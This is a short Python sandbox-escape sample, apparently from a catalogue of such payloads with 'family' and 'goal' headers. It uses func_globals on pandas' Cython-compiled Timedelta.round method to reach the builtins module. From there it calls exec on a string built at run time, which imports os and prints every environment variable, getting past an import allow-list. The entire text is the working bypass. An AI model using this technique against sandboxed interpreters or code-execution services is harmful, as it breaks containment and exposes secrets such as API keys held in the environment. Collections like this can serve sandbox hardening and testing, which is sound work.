# source: Cython cyfunction func_globals alias (pandas/_libs/tslibs/timedeltas.pyx: Timedelta.ceil is a Python-visible def)
# family: cyfunction func_globals via Timedelta's methods, the builtins module picked out of .values() by a test, breakpoint-free import of a module outside the list through builtins.exec
# goal: runs exec() on a string built at run time: imports this and prints the environment via os
import pandas as pd

vals = list(pd.Timedelta(1).round.func_globals.values())
b = [v for v in vals if repr(v).find("builtins") > 0 and repr(v).startswith("<module")][0]
b.exec("import this, os" + chr(10) + "print(dict(os.environ))")
